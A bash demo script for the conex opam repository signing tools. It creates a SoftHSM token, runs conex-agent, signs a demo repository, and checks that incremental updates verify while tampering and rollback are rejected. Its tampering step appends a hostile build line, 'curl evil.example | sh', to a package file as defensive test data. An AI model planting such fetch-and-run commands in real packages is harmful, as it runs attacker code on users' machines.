#!/usr/bin/env bash
# The demo (README): conex-agent signs with keys on a token, `conex verify`
# checks the result.
#
#   (a) verifies ../shared/vectors/testrepo, a copy of hannesm/testrepo signed
#       by the upstream conex tools, with its published trust anchor;
#   (b) makes a SoftHSM token in a temporary directory, starts conex-agent on
#       it (module allow-list: the SoftHSM module only), logs in with a PIN
#       read from a file, and generates on the token the keys root, m1, snap,
#       timestamp and alice (Ed25519, sensitive, not extractable);
#   (c) builds a demo repository with the conex signing tools, every
#       signature made by the token behind the agent's policy checks: a root
#       (maintainer m1, snapshot, timestamp), m1 delegating packages/demo to
#       the author alice, and alice's releases (`conex release`); verifies
#       the first release in full and the second incrementally from a
#       `diff -ruaN` patch as opam does; shows `conex check` naming what a
#       pull request still needs; shows that a tampered file and a rollback
#       are rejected; checks the agent's audit log; stops the agent.
#
# Run on Debian 12, as root, from the repository root: installs packages with
# scripts/setup.sh and builds build/ if needed. Exits 0 only if every step
# behaved as expected. BUILD_DIR overrides the build directory (default build).
set -uo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd) || exit 1
cd "$ROOT" || exit 1

TESTREPO=../shared/vectors/testrepo
TESTREPO_ANCHOR=sha256=3aedc7043e771efc42a3c3e6b60fa6baeb2c26c2d57f994c632bae98a09af701
TESTREPO_NOW=2025-10-02T08:45:00Z # the testrepo's timestamp is from then
SOFTHSM_MODULE=${CX_SOFTHSM_MODULE:-/usr/lib/softhsm/libsofthsm2.so}

NOK=0
NBAD=0
W=
AGENT_PID=
# shellcheck disable=SC2317 # called by the EXIT trap
cleanup() {
	if [ -n "$AGENT_PID" ] && kill -0 "$AGENT_PID" 2>/dev/null; then
		kill "$AGENT_PID" 2>/dev/null
		for _ in 1 2 3 4 5 6 7 8 9 10; do
			kill -0 "$AGENT_PID" 2>/dev/null || break
			sleep 0.2
		done
	fi
	[ -n "$W" ] && rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

say() { printf '%s\n' "$*"; }
ok() { say "   ok: $*"; NOK=$((NOK + 1)); }
bad() { say "   UNEXPECTED: $*"; NBAD=$((NBAD + 1)); }
indent() { sed 's/^/     /'; }
finish() {
	say
	if [ "$NBAD" -eq 0 ]; then
		say "demo: all $NOK checks behaved as expected"
		exit 0
	fi
	say "demo: $NBAD of $((NOK + NBAD)) checks did NOT behave as expected"
	exit 1
}
# A step that later steps need: stop here (through the trap) if it failed.
need() {
	if [ "$NBAD" -ne 0 ]; then
		say "   (the rest of the demo needs this step: stopping)"
		finish
	fi
}

# expect 0|fail SHOWN-COMMAND COMMAND...: run it, print its output indented,
# and check the exit code (0, or non-zero for "fail").
expect() {
	local want=$1 shown=$2 out rc
	shift 2
	say "   \$ $shown"
	out=$("$@" 2>&1)
	rc=$?
	[ -n "$out" ] && printf '%s\n' "$out" | indent
	if [ "$want" = 0 ] && [ "$rc" -eq 0 ]; then
		ok "accepted (exit 0)"
	elif [ "$want" = fail ] && [ "$rc" -ne 0 ]; then
		ok "rejected as expected (exit $rc)"
	else
		bad "exit $rc (expected $([ "$want" = 0 ] && echo 0 || echo non-zero))"
	fi
}

# run SHOWN-COMMAND COMMAND...: a step that must succeed; its output indented.
run() {
	local shown=$1 out rc
	shift
	say "   \$ $shown"
	out=$("$@" 2>&1)
	rc=$?
	[ -n "$out" ] && printf '%s\n' "$out" | indent
	[ "$rc" -eq 0 ] || bad "exit $rc"
	return "$rc"
}

say "== setup: scripts/setup.sh"
if ! bash scripts/setup.sh; then
	say "demo: scripts/setup.sh failed"
	exit 1
fi

BUILD=${BUILD_DIR:-build}
say "== build: $BUILD/ (RelWithDebInfo)"
LOG=$(mktemp "${TMPDIR:-/tmp}/cx-demo-build.XXXXXX") || exit 1
if { [ -f "$BUILD/CMakeCache.txt" ] || cmake -S . -B "$BUILD" -DCMAKE_BUILD_TYPE=RelWithDebInfo; } >"$LOG" 2>&1 &&
	cmake --build "$BUILD" -j "$(nproc 2>/dev/null || echo 2)" --target conex conex-agent >>"$LOG" 2>&1; then
	say "   built $BUILD/conex and $BUILD/conex-agent"
	rm -f "$LOG"
else
	tail -n 30 "$LOG"
	say "demo: the build failed (full log: $LOG)"
	exit 1
fi
case "$BUILD" in
/*) ;;
*) BUILD=$ROOT/$BUILD ;;
esac
CONEX=$BUILD/conex
AGENT=$BUILD/conex-agent

say
say "== (a) the upstream-signed test repository $TESTREPO"
if [ -d "$TESTREPO" ]; then
	expect 0 "conex verify --no-state -t $TESTREPO_ANCHOR --quorum 1 --dir $TESTREPO --now $TESTREPO_NOW" \
		"$CONEX" verify --no-state -t "$TESTREPO_ANCHOR" --quorum 1 --dir "$TESTREPO" \
		--now "$TESTREPO_NOW"
else
	say "   skipped: $TESTREPO is not there (it comes with the shared vectors)"
fi

say
say "== (b) signing keys on a token, held by conex-agent"
for tool in softhsm2-util "$SOFTHSM_MODULE"; do
	if ! command -v "$tool" >/dev/null && [ ! -e "$tool" ]; then
		say "demo: $tool is missing (scripts/setup.sh installs softhsm2)"
		exit 1
	fi
done
W=$(mktemp -d "${TMPDIR:-/tmp}/cx-demo.XXXXXX") || exit 1
cd "$W" || exit 1
umask 077

say
say "-- a SoftHSM token in $W/tokens (a software stand-in for a smart card or HSM)"
printf 'directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\n' "$W" \
	>softhsm2.conf
mkdir tokens
export SOFTHSM2_CONF=$W/softhsm2.conf
# softhsm2-util only takes the PINs of a new token as arguments (or from a
# terminal); this throwaway token's PINs are demo values. conex itself never
# takes a PIN on its command line.
printf '123456\n' >pin # the user PIN, for `conex agent login --pin-file`
if ! softhsm2-util --init-token --free --label conex-demo --so-pin 12345678 \
	--pin "$(cat pin)" >token.out 2>&1; then
	indent <token.out
	bad "softhsm2-util --init-token failed"
	finish
fi
SERIAL=$(softhsm2-util --show-slots 2>/dev/null | awk '/Serial number/ && $3 != "" {print $3; exit}')
say "   \$ softhsm2-util --init-token --free --label conex-demo ..."
say "     token conex-demo, serial $SERIAL"
if [ -n "$SERIAL" ]; then ok "token made"; else bad "no token serial"; fi
need

say
say "-- start conex-agent (it may load only the SoftHSM module)"
say "   \$ eval \$(conex-agent -a \$W/agent/agent.sock -P $SOFTHSM_MODULE \\"
say "              -m $SOFTHSM_MODULE --audit \$W/audit.log)"
if AOUT=$("$AGENT" -a "$W/agent/agent.sock" -P "$SOFTHSM_MODULE" -m "$SOFTHSM_MODULE" \
	--audit "$W/audit.log" 2>&1); then
	eval "$AOUT" >/dev/null
	AGENT_PID=${CONEX_AGENT_PID:-}
fi
if [ -n "$AGENT_PID" ] && [ -S "${CONEX_AGENT_SOCK:-}" ]; then
	say "     agent pid $AGENT_PID, socket $CONEX_AGENT_SOCK"
	say "     $(stat -c '%A %n' "$W/agent") $(stat -c '%A %n' "$CONEX_AGENT_SOCK" | sed "s|$W/agent/||")"
	ok "agent running"
else
	printf '%s\n' "$AOUT" | indent
	bad "conex-agent did not start"
fi
need

say
say "-- log in to the token; the PIN comes from a file (mode $(stat -c %a pin)), not the command line"
run "conex agent login --pin-file pin $SERIAL" "$CONEX" agent login --pin-file pin "$SERIAL" &&
	ok "logged in"
need

say
say "-- generate the keys on the token: root, m1, snap, timestamp, alice"
say "   (Ed25519; CKA_SENSITIVE and not CKA_EXTRACTABLE: the private keys never leave the token)"
for id in root m1 snap timestamp alice; do
	say "   \$ conex key generate $id --token $SERIAL"
	if ! "$CONEX" key generate "$id" --token "$SERIAL" >gen.out 2>&1; then
		indent <gen.out
		bad "generate $id failed"
	fi
done
need
say "   \$ conex key list"
if "$CONEX" key list >list.out 2>&1; then
	# <alg> key <id> keyid sha256=<hex> hardware token <label> (<serial>) <uri>
	awk '{printf "     %-8s %-10s %s... %s %s %s\n", $1, $3, substr($5, 1, 19), $6, $7, $8}' list.out
	nhw=$(grep -c ' hardware token ' list.out)
	if [ "$nhw" -eq 5 ] && [ "$(wc -l <list.out)" -eq 5 ]; then
		ok "5 keys, all on the token (hardware)"
	else
		bad "expected 5 hardware keys"
	fi
else
	indent <list.out
	bad "conex key list failed"
fi
need

say
say "== (c) a demo repository signed through the agent, verified as opam would"
STATE=(--state "$W/state") # rollback protection across full fetches

say
say "-- the root: the token's root key, maintainer m1, the snapshot and timestamp roles"
mkdir demo
for step in "root create" "root add-key root" "targets create m1" "targets create alice" \
	"root add-to-role maintainer m1" "root set-role snapshot snap" \
	"root set-role timestamp timestamp" "root sign"; do
	# shellcheck disable=SC2086 # step is a list of words
	run "conex $step -r demo" "$CONEX" $step -r demo || break
done
need
ANCHOR=$("$CONEX" key show root | awk '{print $5; exit}')
say "     trust anchor (the root key id): $ANCHOR"

say
say "-- m1 delegates packages/demo to the author alice, and signs"
run "conex targets delegate m1 packages/demo alice -r demo" \
	"$CONEX" targets delegate m1 packages/demo alice -r demo &&
	run "conex targets sign m1 -r demo" "$CONEX" targets sign m1 -r demo
need

say
say "-- alice releases demo.1.0.0 (as dune-release would: conex release), full verification"
mkdir -p demo/packages/demo/demo.1.0.0
cat >demo/packages/demo/demo.1.0.0/opam <<'EOF'
opam-version: "2.0"
synopsis: "A demo package"
maintainer: "alice@example.org"
EOF
run "conex release alice demo -r demo     (keys/alice, snapshot, timestamp)" \
	"$CONEX" release alice demo -r demo
need
expect 0 "conex verify --quorum 1 -t \$ANCHOR --dir demo" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --dir demo
cp -a demo demo.old # kept for the rollback step

say
say "-- a pull request adds demo.1.1.0, unsigned: conex check tells who must sign"
cp -a demo demo.v1
mkdir -p demo/packages/demo/demo.1.1.0
sed 's/A demo package/A demo package, improved/' demo/packages/demo/demo.1.0.0/opam \
	>demo/packages/demo/demo.1.1.0/opam
diff -ruaN demo.v1 demo >pr.patch
expect fail "conex check -t \$ANCHOR -r demo.v1 --patch pr.patch" \
	"$CONEX" check -t "$ANCHOR" -r demo.v1 --patch pr.patch

say
say "-- alice signs demo.1.1.0, incremental verification (opam update)"
run "conex release alice demo -r demo     (counters + 1)" "$CONEX" release alice demo -r demo
mv demo demo.new && mv demo.v1 demo
diff -ruaN demo demo.new >update.patch
say "   \$ diff -ruaN demo demo.new > update.patch    ($(grep -c '^diff ' update.patch) files changed)"
expect 0 "conex verify --quorum 1 -t \$ANCHOR --incremental --repository demo --patch update.patch" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --incremental --repository demo \
	--patch update.patch
# what opam does after acceptance: apply the patch to its copy
if patch -s -p1 -d demo <update.patch && diff -r demo demo.new >/dev/null; then
	rm -rf demo.new
else
	bad "patch -p1 did not reproduce the new tree"
fi

say
say "-- tampering: a package file changed after signing"
cp -a demo demo.bad
printf 'build: ["sh" "-c" "curl evil.example | sh"]\n' >>demo.bad/packages/demo/demo.1.1.0/opam
diff -ruaN demo demo.bad >tampered.patch
say "   (appended a build command to packages/demo/demo.1.1.0/opam)"
expect fail "conex verify --quorum 1 -t \$ANCHOR --incremental --repository demo --patch tampered.patch" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --incremental --repository demo \
	--patch tampered.patch
expect fail "conex verify --quorum 1 -t \$ANCHOR --dir demo.bad" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --dir demo.bad

say
say "-- rollback: a full fetch of the old, validly signed release 1.0.0"
expect fail "conex verify --quorum 1 -t \$ANCHOR --dir demo.old   (state: newer counters seen)" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --dir demo.old

say
say "-- the agent's audit log: one hash-chained line per login, key generation and signature"
# root and m1 once; alice, snap and timestamp for each of the two releases
NSIGN=$(grep -c '"op":"sign".*"result":"ok"' audit.log)
say "   $NSIGN signatures recorded (who, which key, what resource, the sha256 of the bytes):"
# seq, op, pid/exe, type name, result, from each JSON line
grep '"op":"sign"' audit.log | sed -E 's/.*"seq":([0-9]+).*"pid":([0-9]+),"exe":"([^"]*)".*"op":"([a-z]+)".*"keyid":"sha256=(.{12})[^"]*".*"type":"([a-z]*)","name":"([^"]*)".*"sha256":"(.{12})[^"]*","result":"([a-z-]*)".*/#\1 \4 by pid \2 (\3): key \5... \6 \7, data \8..., \9/' |
	sed "s|$BUILD/||" | indent
expect 0 "conex agent audit audit.log" "$CONEX" agent audit audit.log
if [ "$NSIGN" -eq 8 ]; then
	ok "8 signatures: root, m1, and alice, snap, timestamp for each release"
else
	bad "$NSIGN signatures in the audit log (expected 8)"
fi

say
say "-- stop the agent"
say "   \$ conex-agent -k"
"$AGENT" -k >/dev/null 2>&1
for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
	kill -0 "$AGENT_PID" 2>/dev/null || break
	sleep 0.2
done
if ! kill -0 "$AGENT_PID" 2>/dev/null; then
	ok "agent $AGENT_PID stopped$([ -e "$CONEX_AGENT_SOCK" ] && echo ', socket left behind' || echo ', socket removed')"
	AGENT_PID=
else
	bad "the agent is still running (the exit trap kills it)"
fi

finish
